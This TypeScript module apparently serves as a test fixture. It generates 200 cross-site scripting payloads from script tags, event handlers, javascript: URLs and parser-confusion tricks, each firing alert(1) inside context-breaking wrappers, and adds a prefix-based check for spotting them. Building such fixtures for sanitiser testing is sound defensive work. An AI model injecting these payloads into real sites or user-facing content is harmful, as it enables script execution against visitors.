/** What calls out where it runs. */
const CALL = 'alert(1)'

/** Ways in: as markup, out of an attribute, out of an element that holds text alone, as an address, by a parser's second thoughts. */
const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${call}></style></mglyph></math>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) =>
    `<template><img src=x onerror=${call}></template><script>document.body.append(document.querySelector('template').content)</script>`,
]

/** What stands around it, so that it comes out of wherever it was put. */
const BORDERS: readonly ((shape: string) => string)[] = [
  (shape) => shape,
  (shape) => `">${shape}`,
  (shape) => `'>${shape}`,
  (shape) => `</title></textarea></style></script>${shape}`,
  (shape) => `" onmouseover="${CALL}" autofocus onfocus="${CALL}" x="${shape}`,
  (shape) => `-->${shape}<!--`,
  (shape) => shape.replaceAll('<', '\\u003c').replace('script', 'ScRiPt'),
  (shape) => `&lt;${shape}&gt;`,
  (shape) => `\u2028]]>${shape}`,
  (shape) => `{{${shape}}}$\{${shape}}`,
]

/** Two hundred texts that run where they are taken for markup. */
export const payloads: readonly string[] = SHAPES.flatMap((shape) =>
  BORDERS.map((border) => border(shape(CALL))),
)

/** The text as a file may be called. */
export const asFileName = (text: string): string => text.replace(/[/\\]/g, '_')

const BEGINNINGS = [
  ...new Set(payloads.flatMap((text) => [text, asFileName(text)]).map((text) => text.slice(0, 8))),
]

/** Whether a text holds one of them, however much of it was left. */
export const holdsPayload = (text: string): boolean =>
  BEGINNINGS.some((beginning) => text.includes(beginning))
